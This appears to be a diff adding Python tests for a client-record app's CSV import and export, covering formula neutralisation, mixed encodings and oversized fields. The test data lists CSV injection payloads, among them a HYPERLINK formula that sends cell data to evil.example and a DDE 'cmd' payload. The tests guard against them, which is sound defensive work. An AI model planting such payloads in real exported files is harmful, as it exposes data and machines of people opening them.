@@ -135,3 +135,55 @@ async def test_import_from_the_app_shows_a_preview_first(store, firm, tmp_path):
         await pilot.press("ctrl+s")
         await settle(pilot)
     assert await names(store, firm) == ["Gagnon, Émilie"]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(A1:A9)", "\t=1+2", "Plain & Co"]
+
+
+async def test_export_cells_never_run_as_formulas_and_import_back_unchanged(
+        store, firm, tmp_path):
+    import csv
+
+    for n, name in enumerate(HOSTILE):
+        await add_client(store, firm.firm_id, organization_name=name, email=f"h{n}@x.ca",
+                         phone="+1 514 555 0199")
+    q = ClientQuery(firm_id=firm.firm_id, tax_year=2025, include_inactive=True)
+    path = tmp_path / "out.csv"
+    await export_clients(store, q, path)
+    with open(path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    for row in rows[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    stored = sorted(await names(store, firm))
+    assert any(n.startswith("=") for n in stored)  # the name itself is kept as typed
+
+    from store import Store
+
+    elsewhere = await Store.open(str(tmp_path / "elsewhere.db"))
+    try:
+        other = await make_preparer(elsewhere)
+        plan = await read_plan(elsewhere, other.firm_id, path)
+    finally:
+        await elsewhere.close()
+    assert not plan.bad and len(plan.ready) == len(HOSTILE)
+    assert sorted(c.organization_name for _line, c in plan.ready) == stored
+    assert {c.phone for _line, c in plan.ready} == {"+15145550199"}
+
+
+async def test_a_file_mixing_utf8_and_windows_1252_is_refused_at_the_line(
+        store, firm, tmp_path):
+    path = tmp_path / "mixed.csv"
+    path.write_bytes("organization_name,email\nÉmilie Roy,e@x.ca\n".encode() +
+                     "Hélène Côté,h@x.ca\n".encode("cp1252"))
+    with pytest.raises(ClientFileError, match="line 3"):
+        await read_plan(store, firm.firm_id, path)
+    assert await names(store, firm) == []
+
+
+async def test_a_huge_field_is_refused_with_its_line(store, firm, tmp_path):
+    path = tmp_path / "huge.csv"
+    path.write_text("organization_name,email\nRoy,r@x.ca\n" + "x" * 140_000 + ",h@x.ca\n")
+    with pytest.raises(ClientFileError, match="line 3"):
+        await read_plan(store, firm.firm_id, path)
